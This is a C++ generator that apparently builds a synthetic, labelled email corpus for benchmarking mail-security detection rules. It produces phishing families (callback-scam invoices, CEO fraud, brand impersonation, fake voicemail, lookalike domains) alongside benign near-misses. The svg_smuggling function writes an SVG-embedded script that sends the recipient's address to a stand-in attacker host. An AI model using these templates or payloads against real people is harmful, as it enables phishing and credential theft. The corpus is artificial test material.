// SPDX-License-Identifier: Apache-2.0

#include "rulebench/corpus/synth.hpp"

#include <algorithm>
#include <cctype>
#include <cmath>
#include <cstdio>
#include <fstream>
#include <set>
#include <vector>

namespace rulebench::corpus {
namespace {

using nlohmann::json;

constexpr std::array<std::string_view, 16> first_names{
    "alex", "jordan", "maria", "li", "sam", "priya", "tom", "fatima",
    "diego", "anna", "kenji", "olivia", "noah", "grace", "omar", "chloe",
};

constexpr std::array<std::string_view, 12> last_names{
    "smith", "garcia", "chen", "patel", "mueller", "kowalski", "okafor", "silva", "nguyen", "brown", "rossi", "tanaka",
};

// Organisations that receive the mail. Each contains at least one letter the
// lookalike generator can swap (m, w, o, l).
constexpr std::array<std::string_view, 8> org_domains{
    "acme.com", "globex.com", "initech.com", "umbrella.com", "wayne.com", "stark.com", "hooli.com", "vandelay.com",
};

constexpr std::array<std::string_view, 6> freemail_domains{
    "gmail.com", "outlook.com", "yahoo.com", "proton.me", "aol.com", "gmx.net",
};

constexpr std::array<std::string_view, 10> vendor_domains{
    "northwind.com", "contoso.com", "fabrikam.com", "tailspin.io", "litware.com",
    "adatum.com",    "proseware.com", "fourthcoffee.com", "wingtip.org", "lucerne.com",
};

constexpr std::array<std::string_view, 10> sketchy_domains{
    "secure-billing-center.top", "account-review.xyz", "docs-share.click", "verify-now.live", "mail-notice.shop",
    "support-desk.icu",          "cloud-files.rest",   "alert-center.site", "portal-auth.online", "sign-check.buzz",
};

constexpr std::array<std::string_view, 6> callback_brands{
    "Geek Squad", "Norton", "McAfee", "PayPal", "Best Buy", "Windows Defender",
};

constexpr std::array<std::string_view, 4> callback_keywords{"invoice", "renewal", "subscription", "order"};

std::string hex_id(Rng& rng)
{
    char buffer[17];
    std::snprintf(buffer, sizeof buffer, "%016llx", static_cast<unsigned long long>(rng.next()));
    return buffer;
}

std::string digits(Rng& rng, int count)
{
    std::string out;
    for (int i = 0; i < count; ++i) {
        out += static_cast<char>('0' + rng.below(10));
    }
    return out;
}

std::string phone(Rng& rng)
{
    return "+1 (8" + digits(rng, 2) + ") " + digits(rng, 3) + "-" + digits(rng, 4);
}

std::string capitalized(std::string_view word)
{
    std::string out(word);
    if (!out.empty()) {
        out[0] = static_cast<char>(std::toupper(static_cast<unsigned char>(out[0])));
    }
    return out;
}

struct Person {
    std::string first;
    std::string last;
};

Person person(Rng& rng)
{
    return {std::string(rng.pick(first_names)), std::string(rng.pick(last_names))};
}

Recipient recipient_at(const Person& p, std::string_view domain)
{
    return Recipient{EmailAddress{p.first + "." + p.last + "@" + std::string(domain), DomainInfo{std::string(domain), true}}};
}

Sender sender_at(const Person& p, std::string_view domain, std::string display)
{
    return Sender{p.first + "." + p.last + "@" + std::string(domain), std::string(domain), std::move(display)};
}

// Skeleton shared by every family: one internal recipient, passing auth,
// ordinary headers.
Message skeleton(Rng& rng, std::string id, std::string timestamp, std::string_view org)
{
    Message m;
    m.id = std::move(id);
    m.timestamp = std::move(timestamp);
    m.direction = Direction::Inbound;
    m.recipients.to.push_back(recipient_at(person(rng), org));
    m.headers.auth_summary = AuthSummary{{true}, {true}, {true}};
    m.headers.raw["message_id"] = "<" + hex_id(rng) + "@mail>";
    m.sender_profile = SenderProfile{Prevalence::Common, true};
    return m;
}

void randomize_auth(Rng& rng, Message& m, double pass_probability)
{
    m.headers.auth_summary.dmarc.pass = rng.chance(pass_probability);
    m.headers.auth_summary.spf.pass = rng.chance(pass_probability);
    m.headers.auth_summary.dkim.pass = rng.chance(pass_probability);
}

Prevalence suspicious_prevalence(Rng& rng)
{
    constexpr std::array<Prevalence, 3> options{Prevalence::New, Prevalence::Outlier, Prevalence::Uncommon};
    return rng.pick(options);
}

Attachment pdf_invoice(Rng& rng, std::string_view brand, bool with_phone)
{
    const std::string number = digits(rng, 6);
    const std::string keyword(rng.pick(callback_keywords));
    Attachment a;
    a.file_name = "Invoice_" + number + ".pdf";
    a.file_extension = "pdf";
    a.content_type = "application/pdf";
    a.text_content = std::string(brand) + " " + keyword + " #" + number + "\nAmount charged: $" +
                     std::to_string(199 + rng.below(400)) + ".99\n";
    if (with_phone) {
        a.text_content += "If you did not authorize this " + keyword + " call our billing desk at " + phone(rng) +
                          " within 24 hours.\n";
    } else {
        a.text_content += "Payment is due within 30 days.\n";
    }
    return a;
}

Message callback_pdf(Rng& rng, std::string id, std::string ts, std::string_view org)
{
    Message m = skeleton(rng, std::move(id), std::move(ts), org);
    const std::string brand(rng.pick(callback_brands));
    const Person p = person(rng);
    m.sender = sender_at(p, rng.pick(freemail_domains), brand + " Billing");
    m.subject = rng.chance(0.5) ? "Your " + brand + " subscription has been renewed" : "Order confirmation " + digits(rng, 8);
    m.body.text = "Hello,\nPlease find your receipt attached.\nRegards, " + brand;
    m.body.html = "<p>" + m.body.text + "</p>";
    m.attachments.push_back(pdf_invoice(rng, brand, true));
    randomize_auth(rng, m, 0.6);
    m.sender_profile = SenderProfile{suspicious_prevalence(rng), false};
    m.nlu = Nlu{{"callback_scam"}, {brand}};
    return m;
}

Message svg_smuggling(Rng& rng, std::string id, std::string ts, std::string_view org)
{
    Message m = skeleton(rng, std::move(id), std::move(ts), org);
    const Person p = person(rng);
    m.sender = sender_at(p, rng.pick(sketchy_domains), capitalized(p.first) + " " + capitalized(p.last));
    m.subject = "Fwd: Remittance advice " + digits(rng, 5);
    m.body.text = "Please review the forwarded remittance.";
    m.body.html = "<p>Please review the forwarded remittance.</p>";
    const std::string target = m.recipients.to.front().email.email;
    const std::string svg_name = "remittance_" + digits(rng, 4) + (rng.chance(0.2) ? ".svgz" : ".svg");
    const std::string svg_ext = svg_name.substr(svg_name.rfind('.') + 1);
    const std::string payload = "<script>var t=window.atob('" + hex_id(rng) +
                                "');window.location.href='https://" + std::string(rng.pick(sketchy_domains)) +
                                "/?u=" + target + "';</script>";

    Attachment svg;
    svg.file_name = svg_name;
    svg.file_extension = svg_ext;
    svg.content_type = "image/svg+xml";
    svg.text_content = "<svg xmlns=\"http://www.w3.org/2000/svg\" onload=\"run()\">" + payload + "</svg>";

    Attachment eml;
    eml.file_name = "Remittance.eml";
    eml.file_extension = "eml";
    eml.content_type = "message/rfc822";
    eml.text_content = "From: accounts@" + std::string(rng.pick(vendor_domains)) + "\nTo: " + target +
                       "\nSubject: Remittance\nAttachment: " + svg_name + "\n";
    eml.base64_blobs.push_back(payload);
    eml.inner_attachments.push_back(svg);
    m.attachments.push_back(std::move(eml));
    if (rng.chance(0.3)) {
        m.attachments.push_back(svg);
    }
    randomize_auth(rng, m, 0.4);
    m.sender_profile = SenderProfile{rng.chance(0.7) ? Prevalence::New : Prevalence::Outlier, false};
    return m;
}

Message bec_reply_to(Rng& rng, std::string id, std::string ts, std::string_view org)
{
    Message m = skeleton(rng, std::move(id), std::move(ts), org);
    const Person boss = person(rng);
    const std::string sender_domain(rng.chance(0.5) ? rng.pick(freemail_domains) : rng.pick(sketchy_domains));
    m.sender = sender_at(boss, sender_domain, capitalized(boss.first) + " " + capitalized(boss.last) + " (CEO)");
    std::string reply_domain(rng.pick(freemail_domains));
    if (reply_domain == sender_domain) {
        reply_domain = "mail-exec.net";
    }
    m.headers.raw["reply_to"] = boss.first + ".exec" + digits(rng, 2) + "@" + reply_domain;
    m.subject = rng.chance(0.5) ? "Quick request" : "Are you at your desk?";
    m.body.text = "I need you to process a payment for a vendor today. Reply with your availability.";
    m.body.html = "<p>" + m.body.text + "</p>";
    constexpr std::array<std::string_view, 3> intents{"bec", "payment_request", "wire_transfer"};
    m.nlu = Nlu{{std::string(rng.pick(intents))}, {}};
    randomize_auth(rng, m, 0.5);
    m.sender_profile = SenderProfile{suspicious_prevalence(rng), false};
    return m;
}

Message brand_impersonation(Rng& rng, std::string id, std::string ts, std::string_view org)
{
    Message m = skeleton(rng, std::move(id), std::move(ts), org);
    const Person p = person(rng);
    constexpr std::array<std::string_view, 4> spoof_domains{"coinbase-verify.com", "secure-coinbase.net",
                                                            "cb-support.help", "wallet-alerts.xyz"};
    const bool display_spoof = rng.chance(0.7);
    m.sender = sender_at(p, rng.pick(spoof_domains), display_spoof ? "Coinbase Support" : "Account Security");
    m.subject = "Unusual sign-in attempt on your account";
    m.body.text = "We detected a sign-in from a new device. Verify your identity to avoid suspension.";
    m.body.html = "<p>" + m.body.text + "</p><a href=\"https://" + std::string(rng.pick(sketchy_domains)) + "\">Verify</a>";
    const std::string link_domain(rng.pick(sketchy_domains));
    m.links.push_back(Link{"https://" + link_domain + "/login", link_domain});
    m.nlu = Nlu{{"cred_theft"}, {"Coinbase"}};
    randomize_auth(rng, m, 0.5);
    m.sender_profile = SenderProfile{suspicious_prevalence(rng), false};
    return m;
}

Message fake_voicemail(Rng& rng, std::string id, std::string ts, std::string_view org)
{
    Message m = skeleton(rng, std::move(id), std::move(ts), org);
    const Person p = person(rng);
    m.sender = sender_at(p, rng.pick(sketchy_domains), "Voice Mail Service");
    constexpr std::array<std::string_view, 3> subjects{"New voicemail from ", "You have 1 new voice message from ",
                                                       "Missed call from "};
    m.subject = std::string(rng.pick(subjects)) + phone(rng);
    m.body.text = "Duration 00:" + digits(rng, 2) + ". Listen to the message using the link below.";
    m.body.html = "<p>" + m.body.text + "</p>";
    const std::string link_domain(rng.pick(sketchy_domains));
    m.links.push_back(Link{"https://" + link_domain + "/play?id=" + digits(rng, 6), link_domain});
    m.nlu = Nlu{{"cred_theft"}, {}};
    randomize_auth(rng, m, 0.5);
    m.sender_profile = SenderProfile{suspicious_prevalence(rng), false};
    return m;
}

Message giveaway_scam(Rng& rng, std::string id, std::string ts, std::string_view org)
{
    Message m = skeleton(rng, std::move(id), std::move(ts), org);
    const Person p = person(rng);
    m.sender = sender_at(p, rng.pick(freemail_domains), capitalized(p.first) + " " + capitalized(p.last));
    constexpr std::array<std::string_view, 3> instruments{"Yamaha piano", "Steinway piano", "baby grand piano"};
    m.subject = "Piano giveaway";
    m.body.text = "I am giving away my late husband's " + std::string(rng.pick(instruments)) +
                  ", free to a good home. You only cover the " + (rng.chance(0.5) ? "shipping" : "delivery") +
                  " fee with our mover.";
    m.body.html = "<p>" + m.body.text + "</p>";
    m.nlu = Nlu{{"scam"}, {}};
    randomize_auth(rng, m, 0.7);
    m.sender_profile = SenderProfile{rng.chance(0.8) ? Prevalence::New : Prevalence::Outlier, false};
    return m;
}

std::string lookalike_of(Rng& rng, std::string_view domain)
{
    const auto dot = domain.find('.');
    std::string label(domain.substr(0, dot));
    const std::string tld(domain.substr(dot));
    std::vector<std::string> variants;
    if (auto at = label.find('m'); at != std::string::npos) {
        variants.push_back(label.substr(0, at) + "rn" + label.substr(at + 1));
    }
    if (auto at = label.find('w'); at != std::string::npos) {
        variants.push_back(label.substr(0, at) + "vv" + label.substr(at + 1));
    }
    if (auto at = label.find('o'); at != std::string::npos) {
        variants.push_back(label.substr(0, at) + "0" + label.substr(at + 1));
    }
    if (auto at = label.find('l'); at != std::string::npos) {
        variants.push_back(label.substr(0, at) + "1" + label.substr(at + 1));
    }
    variants.push_back(label + "-secure");
    variants.push_back(label + "-support");
    return rng.pick(variants) + tld;
}

Message lookalike_domain(Rng& rng, std::string id, std::string ts, std::string_view org)
{
    Message m = skeleton(rng, std::move(id), std::move(ts), org);
    const Person p = person(rng);
    m.sender = sender_at(p, lookalike_of(rng, org), capitalized(p.first) + " " + capitalized(p.last));
    m.subject = "Updated banking details";
    m.body.text = "Please update our remittance account before the next payment run.";
    m.body.html = "<p>" + m.body.text + "</p>";
    m.headers.auth_summary = AuthSummary{{false}, {rng.chance(0.5)}, {rng.chance(0.5)}};
    m.sender_profile = SenderProfile{Prevalence::New, false};
    m.nlu = Nlu{{"bec"}, {}};
    return m;
}

// Benign mail: mostly ordinary business traffic, plus near-miss messages
// that resemble each malicious family. A few near misses are tuned so the
// paired rule still fires, which yields false positives in hunts.
struct BenignMessage {
    Message message;
    std::string variant;
};

BenignMessage benign_business(Rng& rng, std::string id, std::string ts, std::string_view org)
{
    Message m = skeleton(rng, std::move(id), std::move(ts), org);
    const Person p = person(rng);
    const std::string vendor(rng.pick(vendor_domains));
    m.sender = sender_at(p, vendor, capitalized(p.first) + " " + capitalized(p.last));
    m.sender_profile = SenderProfile{rng.chance(0.8) ? Prevalence::Common : Prevalence::Uncommon, rng.chance(0.9)};
    if (rng.chance(0.1)) {
        m.recipients.cc.push_back(recipient_at(person(rng), org));
    }
    const std::uint64_t roll = rng.below(100);
    std::string variant = "plain";
    if (roll < 8) {
        variant = "vendor_invoice";
        m.subject = "Invoice for March services";
        m.body.text = "Attached is this month's invoice.";
        const bool unknown_vendor = rng.chance(0.15);
        m.attachments.push_back(pdf_invoice(rng, capitalized(vendor.substr(0, vendor.find('.'))), true));
        m.sender_profile = SenderProfile{unknown_vendor ? Prevalence::New : Prevalence::Common, !unknown_vendor};
    } else if (roll < 14) {
        variant = "newsletter_reply_to";
        m.subject = "Weekly industry digest";
        m.body.text = "This week in logistics: freight rates and port congestion.";
        const bool billing = rng.chance(0.1);
        m.headers.raw["reply_to"] = billing ? "billing@payments-hub.com" : "editor@lists-mailer.net";
        m.nlu = Nlu{{billing ? "payment_request" : "newsletter"}, {}};
    } else if (roll < 19) {
        variant = "crypto_news";
        const bool official = rng.chance(0.5);
        if (official) {
            m.sender = Sender{"no-reply@coinbase.com", "coinbase.com", "Coinbase"};
            m.subject = "Your monthly statement is ready";
            m.sender_profile = SenderProfile{Prevalence::Common, true};
        } else {
            m.sender = sender_at(p, "cryptodaily.news", "Crypto Daily");
            m.subject = "Markets: Coinbase shares rally";
        }
        m.body.text = "Coinbase reported quarterly results today.";
        m.nlu = Nlu{{"newsletter"}, {"Coinbase"}};
    } else if (roll < 24) {
        variant = "voicemail";
        m.subject = "New voicemail from " + phone(rng);
        m.body.text = "You received a voicemail. Play it in the web portal.";
        const bool provider = rng.chance(0.85);
        const std::string domain = provider ? "ringcentral.com" : "callnotes.app";
        m.sender = Sender{"notify@" + domain, domain, "Voicemail"};
        m.links.push_back(Link{"https://" + domain + "/vm/" + digits(rng, 6), domain});
        m.sender_profile = SenderProfile{provider ? Prevalence::Common : Prevalence::New, provider};
    } else if (roll < 28) {
        variant = "music_store";
        m.subject = "Spring sale on pianos";
        m.body.text = "Our piano giveaway raffle is open. Free delivery fee waived for members; shipping cost included.";
        m.sender_profile = SenderProfile{rng.chance(0.9) ? Prevalence::Common : Prevalence::New, true};
    } else if (roll < 31) {
        variant = "new_partner";
        m.sender = sender_at(p, "globe-support.com", "Partner Onboarding");
        m.subject = "Welcome to the partner program";
        m.body.text = "Your onboarding checklist is below.";
        m.sender_profile = SenderProfile{Prevalence::New, false};
        m.headers.auth_summary.dmarc.pass = rng.chance(0.7);
    } else {
        constexpr std::array<std::string_view, 6> subjects{"Meeting notes", "Quarterly roadmap", "Lunch on Friday?",
                                                           "Shipment tracking update", "Contract draft v3",
                                                           "Team offsite agenda"};
        m.subject = std::string(rng.pick(subjects));
        m.body.text = "Hi team, sharing the latest update. Let me know if you have questions.";
        if (rng.chance(0.3)) {
            Attachment doc;
            doc.file_name = "notes_" + digits(rng, 3) + ".docx";
            doc.file_extension = "docx";
            doc.content_type = "application/vnd.openxmlformats-officedocument.wordprocessingml.document";
            doc.text_content = "Agenda and action items.";
            m.attachments.push_back(std::move(doc));
        }
        if (rng.chance(0.4)) {
            m.links.push_back(Link{"https://" + vendor + "/portal", vendor});
        }
        m.nlu = Nlu{{"business"}, {}};
    }
    m.body.html = "<p>" + m.body.text + "</p>";
    if (rng.chance(0.03)) {
        m.direction = Direction::Outbound;
    }
    return {std::move(m), std::move(variant)};
}

std::string timestamp_at(std::uint64_t offset_seconds)
{
    // 14-day window starting 2025-03-01T00:00:00Z.
    const auto day = 1 + offset_seconds / 86400;
    const auto hour = (offset_seconds % 86400) / 3600;
    const auto minute = (offset_seconds % 3600) / 60;
    const auto second = offset_seconds % 60;
    char buffer[32];
    std::snprintf(buffer, sizeof buffer, "2025-03-%02lluT%02llu:%02llu:%02lluZ", static_cast<unsigned long long>(day),
                  static_cast<unsigned long long>(hour), static_cast<unsigned long long>(minute),
                  static_cast<unsigned long long>(second));
    return buffer;
}

double number_field(const json& j, const char* key, double fallback)
{
    if (!j.contains(key)) {
        return fallback;
    }
    if (!j.at(key).is_number()) {
        throw CorpusError(std::string("generator config: '") + key + "' must be a number");
    }
    return j.at(key).get<double>();
}

}  // namespace

std::string_view to_string(Template t)
{
    switch (t) {
    case Template::CallbackPdf: return "callback_pdf";
    case Template::SvgSmuggling: return "svg_smuggling";
    case Template::BecReplyTo: return "bec_reply_to";
    case Template::BrandImpersonation: return "brand_impersonation";
    case Template::FakeVoicemail: return "fake_voicemail";
    case Template::GiveawayScam: return "giveaway_scam";
    case Template::LookalikeDomain: return "lookalike_domain";
    case Template::BenignBusiness: return "benign_business";
    }
    return "benign_business";
}

std::optional<Template> parse_template(std::string_view name)
{
    for (const Template t : malicious_templates) {
        if (to_string(t) == name) {
            return t;
        }
    }
    if (name == to_string(Template::BenignBusiness)) {
        return Template::BenignBusiness;
    }
    return std::nullopt;
}

std::optional<Template> template_from_label_source(std::string_view source)
{
    constexpr std::string_view prefix = "synthetic:";
    if (source.substr(0, prefix.size()) != prefix) {
        return std::nullopt;
    }
    std::string_view rest = source.substr(prefix.size());
    rest = rest.substr(0, rest.find('/'));
    return parse_template(rest);
}

namespace {

// Validates the config and returns the family distribution.
std::vector<std::pair<Template, double>> checked_weights(const SynthConfig& config)
{
    if (config.count < 0) {
        throw CorpusError("generator config: count must be >= 0");
    }
    if (!(config.malicious_fraction >= 0.0 && config.malicious_fraction <= 1.0)) {
        throw CorpusError("generator config: malicious_fraction must be in [0, 1]");
    }
    if (!(config.unlabeled_fraction >= 0.0 && config.unlabeled_fraction <= 1.0)) {
        throw CorpusError("generator config: unlabeled_fraction must be in [0, 1]");
    }
    std::vector<std::pair<Template, double>> weights;
    double total_weight = 0.0;
    for (const Template t : malicious_templates) {
        const auto it = config.template_weights.find(t);
        const double w = it != config.template_weights.end() ? it->second : config.template_weights.empty() ? 1.0 : 0.0;
        if (!(w >= 0.0) || !std::isfinite(w)) {
            throw CorpusError("generator config: weight for '" + std::string(to_string(t)) + "' must be >= 0");
        }
        weights.emplace_back(t, w);
        total_weight += w;
    }
    if (!(total_weight > 0.0)) {
        throw CorpusError("generator config: template weights must sum to a positive value");
    }
    return weights;
}

}  // namespace

SynthConfig synth_config_from_json(const json& j)
{
    if (!j.is_object()) {
        throw CorpusError("generator config: expected an object");
    }
    static const std::set<std::string> known{"name", "created_at", "count", "malicious_fraction",
                                             "unlabeled_fraction", "template_weights"};
    for (const auto& [key, value] : j.items()) {
        if (!known.contains(key)) {
            throw CorpusError("generator config: unknown field '" + key + "'");
        }
    }
    SynthConfig config;
    if (j.contains("name")) {
        config.name = j.at("name").get<std::string>();
    }
    if (j.contains("created_at")) {
        config.created_at = j.at("created_at").get<std::string>();
        if (!is_utc_timestamp(config.created_at)) {
            throw CorpusError("generator config: created_at must be YYYY-MM-DDTHH:MM:SSZ");
        }
    }
    if (j.contains("count")) {
        if (!j.at("count").is_number_integer()) {
            throw CorpusError("generator config: 'count' must be an integer");
        }
        config.count = j.at("count").get<std::int64_t>();
    }
    config.malicious_fraction = number_field(j, "malicious_fraction", config.malicious_fraction);
    config.unlabeled_fraction = number_field(j, "unlabeled_fraction", config.unlabeled_fraction);
    if (j.contains("template_weights")) {
        const auto& weights = j.at("template_weights");
        if (!weights.is_object()) {
            throw CorpusError("generator config: 'template_weights' must be an object");
        }
        for (const auto& [key, value] : weights.items()) {
            const auto t = parse_template(key);
            if (!t || *t == Template::BenignBusiness) {
                throw CorpusError("generator config: unknown malicious template '" + key + "'");
            }
            if (!value.is_number()) {
                throw CorpusError("generator config: weight for '" + key + "' must be a number");
            }
            config.template_weights[*t] = value.get<double>();
        }
    }
    (void)checked_weights(config);
    return config;
}

SynthConfig load_synth_config(const std::filesystem::path& path)
{
    std::ifstream in(path, std::ios::binary);
    if (!in) {
        throw CorpusError("cannot read generator config " + path.string());
    }
    try {
        return synth_config_from_json(json::parse(in));
    } catch (const json::exception& e) {
        throw CorpusError("generator config " + path.string() + ": " + e.what());
    }
}

json to_json(const SynthConfig& config)
{
    json weights = json::object();
    for (const auto& [t, w] : config.template_weights) {
        weights[std::string(to_string(t))] = w;
    }
    return json{{"name", config.name},
                {"created_at", config.created_at},
                {"count", config.count},
                {"malicious_fraction", config.malicious_fraction},
                {"unlabeled_fraction", config.unlabeled_fraction},
                {"template_weights", std::move(weights)}};
}

Message synthesize_message(Template t, Rng& rng, std::string id, std::string timestamp)
{
    const std::string_view org = rng.pick(org_domains);
    switch (t) {
    case Template::CallbackPdf: return callback_pdf(rng, std::move(id), std::move(timestamp), org);
    case Template::SvgSmuggling: return svg_smuggling(rng, std::move(id), std::move(timestamp), org);
    case Template::BecReplyTo: return bec_reply_to(rng, std::move(id), std::move(timestamp), org);
    case Template::BrandImpersonation: return brand_impersonation(rng, std::move(id), std::move(timestamp), org);
    case Template::FakeVoicemail: return fake_voicemail(rng, std::move(id), std::move(timestamp), org);
    case Template::GiveawayScam: return giveaway_scam(rng, std::move(id), std::move(timestamp), org);
    case Template::LookalikeDomain: return lookalike_domain(rng, std::move(id), std::move(timestamp), org);
    case Template::BenignBusiness: return benign_business(rng, std::move(id), std::move(timestamp), org).message;
    }
    throw CorpusError("unknown template");
}

Corpus synthesize(const SynthConfig& config, std::uint64_t seed)
{
    const auto weights = checked_weights(config);
    double total_weight = 0.0;
    Template fallback = weights.front().first;
    for (const auto& [t, w] : weights) {
        total_weight += w;
        fallback = w > 0.0 ? t : fallback;
    }

    Rng rng(seed);
    const auto count = static_cast<std::size_t>(config.count);
    const auto malicious_count =
        static_cast<std::size_t>(std::llround(static_cast<double>(config.count) * config.malicious_fraction));

    std::vector<bool> is_malicious(count, false);
    std::fill(is_malicious.begin(), is_malicious.begin() + static_cast<std::ptrdiff_t>(malicious_count), true);
    for (std::size_t i = count; i > 1; --i) {
        const std::size_t j = rng.below(i);
        const bool tmp = is_malicious[i - 1];
        is_malicious[i - 1] = is_malicious[j];
        is_malicious[j] = tmp;
    }

    std::vector<Message> messages;
    std::vector<Label> labels;
    messages.reserve(count);
    std::set<std::string> ids;
    for (std::size_t i = 0; i < count; ++i) {
        std::string id;
        do {
            id = "msg-" + hex_id(rng);
        } while (!ids.insert(id).second);
        std::string ts = timestamp_at(rng.below(14ULL * 86400ULL));

        std::string source;
        Message message;
        if (is_malicious[i]) {
            double roll = rng.unit() * total_weight;
            Template chosen = fallback;
            for (const auto& [t, w] : weights) {
                if (w > 0.0 && roll < w) {
                    chosen = t;
                    break;
                }
                roll -= w;
            }
            message = synthesize_message(chosen, rng, std::move(id), std::move(ts));
            source = "synthetic:" + std::string(to_string(chosen));
        } else {
            const std::string_view org = rng.pick(org_domains);
            BenignMessage benign = benign_business(rng, std::move(id), std::move(ts), org);
            message = std::move(benign.message);
            source = "synthetic:benign_business/" + benign.variant;
        }
        if (!rng.chance(config.unlabeled_fraction)) {
            labels.push_back(Label{message.id, is_malicious[i] ? Verdict::Malicious : Verdict::Benign, source});
        }
        messages.push_back(std::move(message));
    }
    return Corpus(config.name, config.created_at, std::move(messages), std::move(labels));
}

}  // namespace rulebench::corpus
